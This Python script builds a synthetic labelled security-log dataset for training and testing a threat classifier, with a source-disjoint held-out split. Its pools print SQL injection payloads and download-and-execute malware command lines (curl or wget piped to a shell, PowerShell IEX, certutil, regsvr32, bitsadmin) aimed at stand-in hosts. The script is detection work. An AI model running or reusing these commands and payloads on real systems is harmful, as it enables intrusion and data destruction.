"""Write data/finetune/threat_{train,heldout}.jsonl: synthetic security log lines with JSON labels.

Each line is written by a template of one log SOURCE (a sensor and its format: sshd in syslog,
nginx's access log, a Suricata alert, ...). The split is by source, not by line:

- every category is written by three or four training sources, most of them shared with another
  category (sshd writes logins and brute force, nginx benign requests and SQL injection), so a
  line's prefix does not tell its category;
- the held-out lines come only from sources that never occur in training (an Okta event, a
  ModSecurity alert, a Zeek notice, ...), and the values that carry the signal (C2 and phishing
  domains, SQL payloads, malware commands, e-mail subjects) come from pools of their own.

A model can only score on the held-out split by reading what a line says, not by recognising a
format it was trained on. Deterministic (one seeded random generator): running it again writes the
same files. Every address comes from the documentation blocks of RFC 5737 or private RFC 1918 space,
every domain from the reserved example/test/invalid names, every user and host name is invented.
Released under CC0-1.0 with the rest of data/finetune/.

    python scripts/make_threat_dataset.py
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path

SEED = 20261202
PER_CATEGORY = {"train": 19, "heldout": 5}
OUT = Path(__file__).resolve().parent.parent / "data" / "finetune"

LABELS = {"authentication": "benign", "web-request": "benign", "brute-force": "suspicious", "port-scan": "suspicious",
          "sql-injection": "malicious", "command-and-control": "malicious", "malware": "malicious", "phishing": "malicious"}

# Which sources write each category, per split. No held-out source occurs in training.
SPLIT_SOURCES: dict[str, dict[str, list[str]]] = {
    "train": {
        "authentication": ["sshd", "windows-security", "cloudtrail", "openvpn"],
        "web-request": ["nginx", "iis", "aws-alb"],
        "brute-force": ["sshd", "windows-security", "cloudtrail", "openvpn"],
        "port-scan": ["iptables", "nfdump", "cisco-asa"],
        "sql-injection": ["nginx", "iis", "aws-alb"],
        "command-and-control": ["squid", "nfdump", "dnsmasq"],
        "malware": ["edr", "windows-security", "auditd"],
        "phishing": ["postfix", "exchange-trace", "squid"],
    },
    "heldout": {
        "authentication": ["okta", "freeradius"],
        "web-request": ["haproxy", "cdn-json"],
        "brute-force": ["okta", "freeradius"],
        "port-scan": ["suricata", "zeek"],
        "sql-injection": ["haproxy", "modsecurity", "app-error"],
        "command-and-control": ["suricata", "sysmon"],
        "malware": ["sysmon", "osquery"],
        "phishing": ["opendmarc", "suricata"],
    },
}

USERS = ["alice", "bob", "deploy", "backup", "jchen", "mlopez", "svc-build", "ops", "nadia", "tkim"]
BAD_USERS = ["root", "admin", "oracle", "test", "ubuntu", "guest", "postgres", "pi", "support", "user1"]
HOSTS = ["web-01", "web-02", "db-01", "ws-114", "ws-207", "vpn-gw", "mail-01", "build-03", "fs-02", "ws-031"]
PAGES = ["/index.html", "/static/app.css", "/static/logo.png", "/api/health", "/docs/start", "/login",
         "/products?page=2", "/api/v1/orders/1842", "/favicon.ico", "/about", "/search?q=blue+shoes", "/cart"]
SQL_PATHS = ["/products", "/search", "/api/items", "/login", "/report"]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2)",
            "Mozilla/5.0 (X11; Linux x86_64)"]
ATTACK_AGENTS = ["sqlmap/1.8.2", "python-requests/2.32", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]
PORTS = [21, 22, 23, 25, 445, 1433, 3306, 3389, 5900, 8080]

# The values that carry a category's signal: separate pools for training and held-out lines.
POOLS: dict[str, dict[str, list[str]]] = {
    "train": {
        "c2_domains": ["beacon.c2.test", "sync-node.c2.test", "cdn-check.invalid"],
        "c2_ips": ["203.0.113.42", "198.51.100.23"],
        "phish_domains": ["login-update.example", "invoice-portal.example", "account-review.example"],
        "phish_subjects": ["Urgent: verify your account", "Invoice overdue - action required", "Your mailbox is full",
                           "Password expires today"],
        "sqli": ["id=1' OR '1'='1", "id=5 UNION SELECT username,password FROM users--", "q=' OR 1=1--",
                 "user=admin'--", "id=3; DROP TABLE orders--"],
        "win_malware": ["powershell.exe -nop -w hidden -enc {b64}", "rundll32.exe C:\\Users\\Public\\{f}.dll,Start",
                        "certutil.exe -urlcache -split -f http://update-check.test/{f}.exe",
                        "mshta.exe http://update-check.test/{f}.hta"],
        "linux_malware": ["curl -fsSL http://update-check.test/{f}.sh | sh", "chmod +x /tmp/.{f} && /tmp/.{f}",
                          "echo {b64} | base64 -d | bash"],
    },
    "heldout": {
        "c2_domains": ["telemetry-upd.invalid", "relay-7.invalid", "status-ping.test"],
        "c2_ips": ["198.51.100.99", "192.0.2.140"],
        "phish_domains": ["wallet-verify.invalid", "secure-payments.example", "docs-share.invalid"],
        "phish_subjects": ["Payment failed, update details", "Shared document: Q4 salaries",
                           "Unusual sign-in activity"],
        "sqli": ["cat=1 AND SLEEP(5)--", "id=2' UNION ALL SELECT NULL,version()--", "name=x' OR 'a'='a",
                 "sort=(SELECT 1 FROM pg_sleep(5))"],
        "win_malware": ["regsvr32.exe /s /u /i:http://files-drop.invalid/{f}.sct scrobj.dll",
                        "powershell.exe -ep bypass -c IEX(New-Object Net.WebClient).DownloadString('http://files-drop.invalid/{f}.ps1')",
                        "bitsadmin.exe /transfer j http://files-drop.invalid/{f}.exe C:\\Users\\Public\\{f}.exe"],
        "linux_malware": ["wget -qO- http://files-drop.invalid/{f}.sh | bash",
                          "/dev/shm/.{f} -o 192.0.2.101:3333 --donate-level 0"],
    },
}

Template = Callable[[random.Random, dict[str, list[str]]], str]


# --- fields -----------------------------------------------------------------------------------------

def _ext_ip(rng: random.Random) -> str:
    return f"{rng.choice(['192.0.2', '198.51.100', '203.0.113'])}.{rng.randint(1, 254)}"


def _int_ip(rng: random.Random) -> str:
    return f"10.{rng.randint(0, 9)}.{rng.randint(0, 40)}.{rng.randint(2, 250)}"


def _syslog_time(rng: random.Random) -> str:
    return f"Nov {rng.randint(1, 28):2d} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def _iso_time(rng: random.Random) -> str:
    return f"2026-11-{rng.randint(1, 28):02d}T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}Z"


def _clf_time(rng: random.Random) -> str:
    return f"{rng.randint(1, 28):02d}/Nov/2026:{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d} +0000"


def _epoch(rng: random.Random) -> str:
    return f"{rng.randint(1795000000, 1797000000)}.{rng.randint(0, 999):03d}"


def _token(rng: random.Random, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _visitor(rng: random.Random) -> str:
    """A web client: the shop's visitors come from outside more often than from inside."""
    return _ext_ip(rng) if rng.random() < 0.6 else _int_ip(rng)


def _bad_user(rng: random.Random) -> str:
    who = rng.choice(BAD_USERS)
    return f"invalid user {who}" if rng.random() < 0.5 else who


def _sqli(rng: random.Random, pool: dict[str, list[str]], space: str) -> str:
    return f"{rng.choice(SQL_PATHS)}?{rng.choice(pool['sqli']).replace(' ', space)}"


def _command(rng: random.Random, pool: dict[str, list[str]], kind: str) -> str:
    b64 = _token(rng, 8, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") + "=="
    return rng.choice(pool[kind]).format(b64=b64, f=rng.choice(["svc", "update", "inv_2026", "tmp31", "helper"]))


# --- training sources -----------------------------------------------------------------------------

def _sshd(category: str) -> Template:
    def auth(rng, pool):
        how = rng.choice(["publickey", "password", "keyboard-interactive"])
        return (f"{_syslog_time(rng)} {rng.choice(HOSTS)} sshd[{rng.randint(900, 65000)}]: Accepted {how} for "
                f"{rng.choice(USERS)} from {_int_ip(rng)} ssh2")

    def brute(rng, pool):
        return (f"{_syslog_time(rng)} {rng.choice(HOSTS)} sshd[{rng.randint(900, 65000)}]: message repeated "
                f"{rng.randint(6, 90)} times: [ Failed password for {_bad_user(rng)} from {_ext_ip(rng)} ssh2]")

    return {"authentication": auth, "brute-force": brute}[category]


def _windows_security(category: str) -> Template:
    head = "Security"

    def auth(rng, pool):
        return (f"{_iso_time(rng)} {rng.choice(HOSTS).upper()} {head} 4624: An account was successfully logged on. "
                f"Account={rng.choice(USERS)} LogonType={rng.choice([2, 3, 10])} Source={_int_ip(rng)}")

    def brute(rng, pool):
        return (f"{_iso_time(rng)} {rng.choice(HOSTS).upper()} {head} 4625: An account failed to log on. "
                f"Account={rng.choice(BAD_USERS)} LogonType=3 Source={_ext_ip(rng)} Failures={rng.randint(8, 120)} "
                f"in {rng.randint(1, 10)} min")

    def malware(rng, pool):
        cmd = _command(rng, pool, "win_malware")
        return (f"{_iso_time(rng)} {rng.choice(HOSTS).upper()} {head} 4688: A new process has been created. "
                f"Process={cmd.split()[0]} CommandLine={cmd}")

    return {"authentication": auth, "brute-force": brute, "malware": malware}[category]


def _cloudtrail(category: str) -> Template:
    def auth(rng, pool):
        return (f'cloudtrail: {{"eventName": "ConsoleLogin", "user": "{rng.choice(USERS)}", '
                f'"sourceIP": "{_int_ip(rng)}", "result": "Success", "mfa": true}}')

    def brute(rng, pool):
        return (f'cloudtrail: {{"eventName": "ConsoleLogin", "user": "{rng.choice(BAD_USERS)}", '
                f'"sourceIP": "{_ext_ip(rng)}", "result": "Failure", "attemptsLastHour": {rng.randint(10, 400)}}}')

    return {"authentication": auth, "brute-force": brute}[category]


def _openvpn(category: str) -> Template:
    def auth(rng, pool):
        return (f"{_syslog_time(rng)} vpn-gw openvpn[{rng.randint(900, 65000)}]: {rng.choice(USERS)}/{_ext_ip(rng)} "
                f"Peer Connection Initiated, MULTI: primary virtual IP {_int_ip(rng)}")

    def brute(rng, pool):
        return (f"{_syslog_time(rng)} vpn-gw openvpn[{rng.randint(900, 65000)}]: {_ext_ip(rng)} "
                f"TLS Auth Error: Auth Username/Password verification failed for peer ({rng.choice(BAD_USERS)}, "
                f"{rng.randint(10, 200)} attempts in {rng.randint(30, 600)}s)")

    return {"authentication": auth, "brute-force": brute}[category]


def _nginx(category: str) -> Template:
    def web(rng, pool):
        return (f'{_visitor(rng)} - - [{_clf_time(rng)}] "GET {rng.choice(PAGES)} HTTP/1.1" {rng.choice([200, 200, 304])} '
                f'"{rng.choice(BROWSERS)}"')

    def sqli(rng, pool):
        return (f'{_ext_ip(rng)} - - [{_clf_time(rng)}] "GET {_sqli(rng, pool, "%20")} HTTP/1.1" '
                f'{rng.choice([200, 500, 403])} "{rng.choice(ATTACK_AGENTS)}"')

    return {"web-request": web, "sql-injection": sqli}[category]


def _iis(category: str) -> Template:
    def line(rng, client, path, status, agent):
        stem, _, query = path.partition("?")
        return (f"2026-11-{rng.randint(1, 28):02d} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d} "
                f"10.0.0.{rng.randint(2, 40)} GET {stem} {query or '-'} 443 - {client} {agent.replace(' ', '+')} "
                f"{status} {rng.randint(2, 900)}")

    def web(rng, pool):
        return line(rng, _visitor(rng), rng.choice(PAGES), rng.choice([200, 200, 304]), rng.choice(BROWSERS))

    def sqli(rng, pool):
        return line(rng, _ext_ip(rng), _sqli(rng, pool, "+"), rng.choice([200, 500]), rng.choice(ATTACK_AGENTS))

    return {"web-request": web, "sql-injection": sqli}[category]


def _aws_alb(category: str) -> Template:
    def line(rng, client, path, status):
        return f'https {_iso_time(rng)} app/shop-lb {client} {status} "GET https://shop.example:443{path} HTTP/1.1"'

    def web(rng, pool):
        return line(rng, _visitor(rng), rng.choice(PAGES), rng.choice([200, 200, 304]))

    def sqli(rng, pool):
        return line(rng, _ext_ip(rng), _sqli(rng, pool, " "), rng.choice([200, 500, 403]))

    return {"web-request": web, "sql-injection": sqli}[category]


def _iptables(category: str) -> Template:
    def scan(rng, pool):
        return (f"{_syslog_time(rng)} fw-01 kernel: [FW-DROP] IN=eth0 SRC={_ext_ip(rng)} DST={_int_ip(rng)} PROTO=TCP "
                f"DPT={rng.choice(PORTS)} SYN; {rng.randint(20, 900)} ports from this source in {rng.randint(5, 60)}s")

    return {"port-scan": scan}[category]


def _nfdump(category: str) -> Template:
    def scan(rng, pool):
        n = rng.randint(20, 900)
        return (f"nfdump: {_iso_time(rng)} {_ext_ip(rng)} -> {_int_ip(rng)} TCP flags=S {n} flows to {n} distinct "
                f"ports in {rng.randint(5, 90)}s")

    def c2(rng, pool):
        return (f"nfdump: {_iso_time(rng)} {_int_ip(rng)} -> {rng.choice(pool['c2_ips'])}:443 TCP {rng.randint(40, 900)} "
                f"flows at a fixed {rng.choice([30, 60, 120, 300])}s interval, {rng.randint(2, 90)} KB out")

    return {"port-scan": scan, "command-and-control": c2}[category]


def _cisco_asa(category: str) -> Template:
    def scan(rng, pool):
        return (f"%ASA-4-733100: [Scanning] drop rate-1 exceeded. Current burst rate is {rng.randint(11, 90)} per second; "
                f"{_ext_ip(rng)} probed {rng.randint(20, 900)} ports on {_int_ip(rng)}")

    return {"port-scan": scan}[category]


def _squid(category: str) -> Template:
    def c2(rng, pool):
        domain = rng.choice(pool["c2_domains"])
        return (f"{_epoch(rng)} {rng.randint(50, 900)} {_int_ip(rng)} TCP_TUNNEL/200 {rng.randint(300, 4000)} CONNECT "
                f"{domain}:443 - {rng.choice(pool['c2_ips'])} beacon every {rng.choice([30, 60, 120, 300])}s "
                f"({rng.randint(40, 900)} requests)")

    def phish(rng, pool):
        return (f"{_epoch(rng)} {rng.randint(50, 900)} {_int_ip(rng)} TCP_MISS/200 {rng.randint(2000, 40000)} GET "
                f"http://{rng.choice(pool['phish_domains'])}/{rng.choice(['signin', 'verify', 'secure/login.php'])} "
                f"{rng.choice(USERS)} text/html (referer: webmail link)")

    return {"command-and-control": c2, "phishing": phish}[category]


def _dnsmasq(category: str) -> Template:
    def c2(rng, pool):
        return (f"{_syslog_time(rng)} dnsmasq[{rng.randint(300, 9000)}]: query[TXT] {_token(rng, 12)}.{rng.choice(pool['c2_domains'])} "
                f"from {_int_ip(rng)} ({rng.randint(40, 900)} queries in the last hour)")

    return {"command-and-control": c2}[category]


def _edr(category: str) -> Template:
    def malware(rng, pool):
        parent = rng.choice(["winword.exe", "outlook.exe", "explorer.exe", "excel.exe"])
        return (f'edr {rng.choice(HOSTS)}: parent={parent} cmd="{_command(rng, pool, "win_malware")}" '
                f'user={rng.choice(USERS)} action={rng.choice(["blocked", "alerted"])}')

    return {"malware": malware}[category]


def _auditd(category: str) -> Template:
    def malware(rng, pool):
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(["sh", "-c", _command(rng, pool, "linux_malware")]))
        return f"type=EXECVE msg=audit({_epoch(rng)}:{rng.randint(100, 99999)}): argc=3 {args}"

    return {"malware": malware}[category]


def _postfix(category: str) -> Template:
    def phish(rng, pool):
        domain = rng.choice(pool["phish_domains"])
        return (f"{_syslog_time(rng)} mail-01 postfix/cleanup[{rng.randint(300, 9000)}]: {_token(rng, 10, '0123456789ABCDEF')}: "
                f"from=<no-reply@{domain}> to=<{rng.choice(USERS)}@corp.example> "
                f"subject=\"{rng.choice(pool['phish_subjects'])}\" link=http://{domain}/verify")

    return {"phishing": phish}[category]


def _exchange_trace(category: str) -> Template:
    def phish(rng, pool):
        return (f"msgtrace,{_iso_time(rng)},security@{rng.choice(pool['phish_domains'])},{rng.choice(USERS)}@corp.example,"
                f"\"{rng.choice(pool['phish_subjects'])}\",Delivered,urls={rng.randint(1, 3)},spf=softfail")

    return {"phishing": phish}[category]


# --- held-out sources (never in training) -----------------------------------------------------------

def _okta(category: str) -> Template:
    def auth(rng, pool):
        return (f'okta: {{"eventType": "user.session.start", "actor": "{rng.choice(USERS)}@corp.example", '
                f'"client": "{_int_ip(rng)}", "outcome": "SUCCESS", "factor": "push"}}')

    def brute(rng, pool):
        return (f'okta: {{"eventType": "user.session.start", "actor": "{rng.choice(BAD_USERS)}@corp.example", '
                f'"client": "{_ext_ip(rng)}", "outcome": "FAILURE", "reason": "INVALID_CREDENTIALS", '
                f'"count": {rng.randint(10, 300)}}}')

    return {"authentication": auth, "brute-force": brute}[category]


def _freeradius(category: str) -> Template:
    def auth(rng, pool):
        return (f"{_syslog_time(rng)} radius-01 radiusd[{rng.randint(300, 9000)}]: Login OK: [{rng.choice(USERS)}] "
                f"(from client wlan-ap port {rng.randint(1, 48)} cli {_int_ip(rng)})")

    def brute(rng, pool):
        return (f"{_syslog_time(rng)} radius-01 radiusd[{rng.randint(300, 9000)}]: Login incorrect: [{rng.choice(BAD_USERS)}] "
                f"(from client vpn-nas port 0 cli {_ext_ip(rng)}), {rng.randint(10, 200)} rejects in {rng.randint(30, 600)}s")

    return {"authentication": auth, "brute-force": brute}[category]


def _haproxy(category: str) -> Template:
    def line(rng, client, path, status):
        return (f"{_syslog_time(rng)} lb-02 haproxy[{rng.randint(300, 9000)}]: {client} fe_https "
                f'be_web/web-0{rng.randint(1, 4)} {status} "GET {path} HTTP/1.1"')

    def web(rng, pool):
        return line(rng, _visitor(rng), rng.choice(PAGES), rng.choice([200, 200, 304]))

    def sqli(rng, pool):
        return line(rng, _ext_ip(rng), _sqli(rng, pool, "%20"), rng.choice([200, 500]))

    return {"web-request": web, "sql-injection": sqli}[category]


def _cdn_json(category: str) -> Template:
    def web(rng, pool):
        return (f'cdn: {{"client_ip": "{_visitor(rng)}", "method": "GET", "uri": "{rng.choice(PAGES)}", '
                f'"status": {rng.choice([200, 304])}, "cache": "{rng.choice(["HIT", "MISS"])}"}}')

    return {"web-request": web}[category]


def _modsecurity(category: str) -> Template:
    def sqli(rng, pool):
        path, _, payload = _sqli(rng, pool, " ").partition("?")
        return (f"[{_clf_time(rng)}] [security2:error] [client {_ext_ip(rng)}] ModSecurity: Access denied with code 403. "
                f'Matched ARGS:{payload.split("=")[0]} [data "{payload}"] [uri "{path}"]')

    return {"sql-injection": sqli}[category]


def _app_error(category: str) -> Template:
    def sqli(rng, pool):
        path, _, payload = _sqli(rng, pool, " ").partition("?")
        return (f"{_iso_time(rng)} ERROR shop-api PDOException: SQLSTATE[42000]: Syntax error or access violation "
                f"in query built from {path} parameter {payload}")

    return {"sql-injection": sqli}[category]


def _suricata_line(rng: random.Random, signature: str, classification: str, priority: int, src: str, dst: str) -> str:
    return (f"11/{rng.randint(1, 28):02d}/2026-{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} [**] {signature} [**] "
            f"[Classification: {classification}] [Priority: {priority}] {{TCP}} {src} -> {dst}")


def _suricata(category: str) -> Template:
    def scan(rng, pool):
        port = rng.choice(PORTS)
        return _suricata_line(rng, f"ET SCAN Suspicious inbound SYN sweep to port {port}", "Attempted Information Leak", 2,
                              _ext_ip(rng), f"{_int_ip(rng)}:{port}")

    def c2(rng, pool):
        return _suricata_line(rng, f"ET MALWARE Periodic beacon to {rng.choice(pool['c2_domains'])}",
                              "A Network Trojan was detected", 1, _int_ip(rng),
                              f"{rng.choice(pool['c2_ips'])}:443")

    def phish(rng, pool):
        return _suricata_line(rng, f"ET PHISHING Credential form posted to {rng.choice(pool['phish_domains'])}",
                              "Possible Social Engineering Attempted", 1, _int_ip(rng),
                              f"{_ext_ip(rng)}:80")

    return {"port-scan": scan, "command-and-control": c2, "phishing": phish}[category]


def _zeek(category: str) -> Template:
    def scan(rng, pool):
        return (f"zeek notice.log: {_epoch(rng)} Scan::Port_Scan {_ext_ip(rng)} scanned at least {rng.randint(15, 900)} "
                f"unique ports of host {_int_ip(rng)} in {rng.randint(0, 4)}m{rng.randint(1, 59)}s")

    return {"port-scan": scan}[category]


def _sysmon(category: str) -> Template:
    def c2(rng, pool):
        return (f"Sysmon EventID=22 {rng.choice(HOSTS)} Image=C:\\Users\\{rng.choice(USERS)}\\AppData\\Local\\Temp\\svc.exe "
                f"QueryName={_token(rng, 10)}.{rng.choice(pool['c2_domains'])} QueryResults={rng.choice(pool['c2_ips'])} "
                f"interval={rng.choice([30, 60, 120, 300])}s")

    def malware(rng, pool):
        cmd = _command(rng, pool, "win_malware")
        parent = rng.choice(["WINWORD.EXE", "OUTLOOK.EXE", "explorer.exe"])
        return f"Sysmon EventID=1 {rng.choice(HOSTS)} ParentImage={parent} Image={cmd.split()[0]} CommandLine={cmd}"

    return {"command-and-control": c2, "malware": malware}[category]


def _osquery(category: str) -> Template:
    def malware(rng, pool):
        cmd = _command(rng, pool, "linux_malware").replace('"', "'")
        return (f'osquery: {{"name": "process_events", "hostIdentifier": "{rng.choice(HOSTS)}", '
                f'"cmdline": "{cmd}", "uid": "{rng.choice([0, 33, 1000])}"}}')

    return {"malware": malware}[category]


def _opendmarc(category: str) -> Template:
    def phish(rng, pool):
        return (f"{_syslog_time(rng)} mx-02 opendmarc[{rng.randint(300, 9000)}]: {_token(rng, 10, '0123456789ABCDEF')}: "
                f"header.from={rng.choice(pool['phish_domains'])} spf=fail dkim=none dmarc=fail "
                f"rcpt={rng.choice(USERS)}@corp.example subject=\"{rng.choice(pool['phish_subjects'])}\"")

    return {"phishing": phish}[category]


SOURCES: dict[str, Callable[[str], Template]] = {
    "sshd": _sshd, "windows-security": _windows_security, "cloudtrail": _cloudtrail, "openvpn": _openvpn,
    "nginx": _nginx, "iis": _iis, "aws-alb": _aws_alb, "iptables": _iptables, "nfdump": _nfdump,
    "cisco-asa": _cisco_asa, "squid": _squid, "dnsmasq": _dnsmasq, "edr": _edr, "auditd": _auditd,
    "postfix": _postfix, "exchange-trace": _exchange_trace,
    "okta": _okta, "freeradius": _freeradius, "haproxy": _haproxy, "cdn-json": _cdn_json,
    "modsecurity": _modsecurity, "app-error": _app_error, "suricata": _suricata, "zeek": _zeek,
    "sysmon": _sysmon, "osquery": _osquery, "opendmarc": _opendmarc,
}


def check_sources() -> None:
    """Raise if a held-out source also writes training lines, or a split/category names an unknown source."""
    train = {s for sources in SPLIT_SOURCES["train"].values() for s in sources}
    held = {s for sources in SPLIT_SOURCES["heldout"].values() for s in sources}
    if train & held:
        raise ValueError(f"sources in both splits: {sorted(train & held)}")
    for split, table in SPLIT_SOURCES.items():
        if set(table) != set(LABELS):
            raise ValueError(f"{split}: categories {sorted(table)} differ from {sorted(LABELS)}")
        for category, sources in table.items():
            for source in sources:
                SOURCES[source](category)  # KeyError if the source has no template for the category


def build() -> dict[str, list[dict[str, str]]]:
    """The two splits: every category in both, its lines spread evenly over the split's sources for it."""
    check_sources()
    rng = random.Random(SEED)
    seen: set[str] = set()
    splits: dict[str, list[dict[str, str]]] = {name: [] for name in PER_CATEGORY}
    for name, count in PER_CATEGORY.items():
        for category, verdict in LABELS.items():
            sources = SPLIT_SOURCES[name][category]
            made = 0
            while made < count:
                source = sources[made % len(sources)]
                text = SOURCES[source](category)(rng, POOLS[name])
                if text in seen:
                    continue
                seen.add(text)
                splits[name].append({"text": text, "verdict": verdict, "category": category, "source": source})
                made += 1
        rng.shuffle(splits[name])
        for i, row in enumerate(splits[name]):
            row["id"] = f"{name}-{i:03d}"
    return splits


def jsonl(rows: list[dict[str, str]]) -> str:
    """The file content for one split: one JSON object per line, keys in a fixed order."""
    keys = ("id", "text", "verdict", "category", "source")
    return "".join(json.dumps({k: r[k] for k in keys}) + "\n" for r in rows)


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for name, rows in build().items():
        path = OUT / f"threat_{name}.jsonl"
        path.write_text(jsonl(rows))
        print(f"{path.relative_to(OUT.parent.parent)}: {len(rows)} examples")


if __name__ == "__main__":
    main()
